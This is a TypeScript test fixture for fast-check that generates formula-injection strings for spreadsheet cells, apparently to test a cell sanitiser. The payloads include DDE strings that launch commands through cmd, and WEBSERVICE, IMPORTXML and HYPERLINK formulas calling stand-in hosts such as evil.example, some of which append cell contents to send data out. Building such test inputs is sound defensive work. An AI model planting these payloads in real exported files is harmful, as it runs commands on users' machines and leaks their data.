// @ts-nocheck
import fc from 'fast-check';

const STARTS = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '﹦', '﹢', '﹣', '﹫', '−'];
const BEFORE = ['', ' ', '\t', '\r', '\n', '\r\n', '\u0000', '\u00a0', '\u3000', '\u200b', '\ufeff', '\u202e', '\u00ad', '\u3164', "'", "' '", '\u0001', '\u2028'];
const BODIES = ["cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example","x")', '1+1', 'SUM(A1:A9)', 'WEBSERVICE("http://evil.example/"&A1)', '2+5+cmd|\'/C calc\'!A0', 'IMPORTXML(CONCAT("http://e.example/",A1),"//a")', '1', 'DDE("cmd";"/C calc";"x")', '@SUM(1)', '"', '",=1+1', '";=1+1', '\n=1+1', '研发投入'];

/** Texts that some spreadsheet program runs as a formula, plain and disguised. */
export const FORMULA_PAYLOADS: readonly string[] = STARTS.flatMap((start) => BEFORE.flatMap((before) => BODIES.map((body) => `${before}${start}${body}`)));

/** Any text, often one that pretends to be a formula. */
export const anyCellText: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(...FORMULA_PAYLOADS),
  fc.tuple(fc.array(fc.constantFrom(...BEFORE), { maxLength: 4 }), fc.constantFrom(...STARTS, ''), fc.string({ unit: 'binary', maxLength: 30 })).map(([before, start, rest]) => before.join('') + start + rest),
  fc.string({ unit: 'grapheme', maxLength: 30 }),
);
